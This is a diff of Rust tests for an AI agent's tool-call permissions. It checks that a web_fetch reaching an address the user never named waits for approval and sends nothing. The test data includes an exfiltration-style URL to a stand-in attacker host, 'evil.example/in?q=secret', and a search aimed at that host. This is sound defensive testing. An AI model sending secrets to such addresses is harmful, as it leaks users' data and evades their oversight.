@@ -119,7 +119,10 @@ fn each_end_of_a_call_is_told_by_its_name() {
         (find("1"), CallEnd::Completed),
         (call("1", "find_in_page", json!({})), CallEnd::Failed),
         (nap("1", 40_000), CallEnd::TimedOut),
-        (fetch("1", "https://elsewhere.example/x"), CallEnd::Rejected),
+        (
+            call("1", "web_search", json!({ "query": "site:evil.example" })),
+            CallEnd::Rejected,
+        ),
     ] {
         let (_, ran) = acting_unsure(one.clone());
         assert_eq!(ends(&ran), [("1".to_owned(), end)], "{one:?}");
@@ -278,72 +281,32 @@ fn said(ran: &RunResult) -> Vec<(&str, Vec<&str>)> {
 }
 
 #[test]
-fn an_address_that_nobody_vouches_for_takes_no_other_along_and_is_never_asked_for() {
+fn the_user_is_asked_about_a_call_with_an_address_that_they_did_not_write() {
     let urls = [
         "https://evil.example/in?q=secret",
         "https://a.example/x",
         "https://evil.example/",
     ];
-    let world = |granted: bool| {
-        let one = call("1", "web_fetch", json!({ "urls": urls }));
-        let replies = vec![(Reason, calls([one])), (Observe, says("Done.").sure(0.9))];
-        let mut world = World::scripted(replies);
-        world.goal = Goal::Ask {
-            question: format!("What does {} say?", urls[1]),
-        };
-        if granted {
-            world.sim.grant("https://a.example");
-        }
-        world.sim.grant("https://evil.example");
-        // The first request is retried, and the retry is redirected within the site.
-        world.sim.serve(|request, before| {
-            if before == 0 {
-                Answer::status(503)
-            } else if request.url.ends_with("/x") {
-                Answer::status(301).header("location", "https://a.example/y")
-            } else {
-                lamp()
-            }
-        });
-        world
+    let one = call("1", "web_fetch", json!({ "urls": urls }));
+    let replies = vec![(Reason, calls([one])), (Observe, says("Done.").sure(0.9))];
+    let mut world = World::scripted(replies);
+    world.goal = Goal::Ask {
+        question: format!("What does {} say?", urls[1]),
     };
-    let read = world(true);
-    let ran = read.run();
-    assert_eq!(ends(&ran), [("1".to_owned(), CallEnd::Completed)]);
-    let given = results(&read)[0].1.clone().unwrap();
-    assert_eq!(given["pages"][0]["url"], "https://a.example/y");
-    assert_eq!(
-        (&given["fetchedCount"], &given["failedCount"]),
-        (&json!(1), &json!(2))
-    );
-    let errors = given["errors"].as_array().unwrap();
-    for (error, url) in errors.iter().zip([urls[0], urls[2]]) {
-        assert_eq!(error["url"], url);
-        let said = error["error"].as_str().unwrap();
-        assert!(
-            said.starts_with("this call needs the user's approval"),
-            "{said}"
-        );
-    }
-    let asked = read.sim.requests().into_iter().map(|request| request.url);
-    let site = "https://a.example";
-    let expected = [
-        format!("{site}/x"),
-        format!("{site}/x"),
-        format!("{site}/y"),
-    ];
-    assert_eq!(asked.collect::<Vec<_>>(), expected);
-    // The user is asked only for the site that they named.
-    let asks = world(false);
-    let ran = asks.run();
+    world.sim.grant("https://a.example");
+    world.sim.grant("https://evil.example");
+    world.sim.serve(|_, _| lamp());
+    let ran = world.run();
     let need = ran.events.iter().find_map(|event| match event {
         Event::PermissionNeeded { wait } => Some(wait.need.clone()),
         _ => None,
     });
-    let origins = ["https://a.example", "https://www.a.example"].map(str::to_owned);
-    let origins = origins.to_vec();
-    assert_eq!(need, Some(MissingRight::Pages { origins }));
-    assert!(asks.sim.requests().is_empty());
+    let Some(MissingRight::Send(request)) = need else {
+        panic!("{need:?}");
+    };
+    assert_eq!(request.unedited(), urls.join("\n"));
+    assert_eq!(request.to, "evil.example");
+    assert!(world.sim.requests().is_empty());
 }
 
 #[test]
